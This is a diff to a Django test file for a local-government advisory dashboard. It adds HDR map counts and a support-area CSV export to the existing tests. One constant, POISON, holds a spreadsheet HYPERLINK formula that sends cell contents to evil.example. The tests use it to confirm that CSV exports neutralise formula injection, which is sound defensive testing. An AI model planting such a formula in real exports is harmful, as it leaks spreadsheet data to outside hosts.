@@ -24,7 +24,8 @@ from ..models import StageKind
 from ..selectors import dashboards
 from ..services import support_log
 from ..services.programme_settings import programme_settings_save
-from .factories import CallFactory, engagement_with_team, support_form
+from .factories import CallFactory, engagement_with_team, support_area, support_form
+from .hdr_helpers import drafted_hdr, published_hdr
 
 pytestmark = pytest.mark.django_db
 POISON = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -74,14 +75,14 @@ def _cycle(count):
 def test_the_coordinators_dashboard_within_one_budget_whatever_the_rows(coordinator_client, count):
     call, engagements = _cycle(count)
     url = reverse("advisory:dashboard") + f"?call={call.pk}"
-    response = assert_page(coordinator_client, url, queries=16, template=DASHBOARD)
+    response = assert_page(coordinator_client, url, queries=17, template=DASHBOARD)
     body = response.content.decode()
     for engagement in engagements:
         assert engagement.local_government.name in body
     assert "<svg" in body
     assert "<path" in body
     assert "Overdue follow-ups" in body
-    assert_page(coordinator_client, url + "&level=powiat", queries=16, template=DASHBOARD)
+    assert_page(coordinator_client, url + "&level=powiat", queries=17, template=DASHBOARD)
 
 
 def test_the_matrix_has_a_row_per_engagement_with_the_programmes_stage_names(coordinator_client):
@@ -165,7 +166,7 @@ def test_bad_filters_are_a_message_not_an_error(coordinator_client, query):
 
 
 @pytest.mark.parametrize(
-    "kind", ["matrix", "hours-form", "hours-expert", "hours-local-government", "overdue"]
+    "kind", ["matrix", "hours-form", "hours-expert", "hours-local-government", "hdrs-area", "overdue"]
 )
 def test_exports_keep_poisoned_names_as_text(coordinator_client, kind):
     engagement = engagement_with_team(local_government=GminaFactory(name=POISON))
@@ -173,6 +174,8 @@ def test_exports_keep_poisoned_names_as_text(coordinator_client, kind):
     person.first_name = POISON
     person.save()
     _log(engagement)
+    if kind == "hdrs-area":
+        drafted_hdr(area=support_area(name=POISON))
     url = reverse("advisory:dashboard_export", args=[kind, "csv"])
     response = coordinator_client.get(url)
     assert response.status_code == 200
@@ -234,3 +237,37 @@ def test_the_local_government_sees_our_cycle_and_next_meeting(client):
 def test_anonymous_visitors_are_sent_to_log_in(client):
     response = client.get(reverse("advisory:dashboard"))
     assert response.status_code == 302
+
+
+def test_published_hdrs_on_the_map_and_hdrs_by_support_area(coordinator_client):
+    call = CallFactory(places=50)
+    first, second = support_area(), support_area(name="Zarządzanie finansami")
+    published = [published_hdr(call=call, area=first) for _ in range(2)]
+    drafted_hdr(call=call, area=first)
+    drafted_hdr(call=call, area=second)
+    coordinator = user_with_role("coordinator")
+    scope = dashboards.scope(coordinator, call=call)
+
+    counts = dashboards.map_counts(scope, layer="hdrs", level="voivodeship")
+    assert sum(counts.values()) == 2
+    assert set(counts) == {hdr.engagement.local_government.terc[:2] for hdr in published}
+    powiats = dashboards.map_counts(scope, layer="hdrs", level="powiat")
+    assert set(powiats) == {hdr.engagement.local_government.terc[:4] for hdr in published}
+
+    rows = {row["engagement__support_area__name"]: row for row in dashboards.hdrs_by_support_area(scope)}
+    assert (rows[first.name]["published"], rows[first.name]["drafting"], rows[first.name]["total"]) == (
+        2,
+        1,
+        3,
+    )
+    assert (rows[second.name]["published"], rows[second.name]["drafting"]) == (0, 1)
+
+    url = reverse("advisory:dashboard") + f"?call={call.pk}&layer=hdrs"
+    body = assert_page(coordinator_client, url, queries=17, template=DASHBOARD).content.decode()
+    assert "Map: Published HDRs" in body
+    assert "HDRs by support area" in body
+    assert "Zarządzanie finansami" in body
+    response = coordinator_client.get(reverse("advisory:dashboard_export", args=["hdrs-area", "csv"]))
+    lines = list(csv.reader(io.StringIO(b"".join(response).decode("utf-8-sig"))))
+    assert lines[0] == ["Support area", "HDRs being drafted", "Approved HDRs", "Published HDRs", "All HDRs"]
+    assert [first.name, "1", "0", "2", "3"] in lines
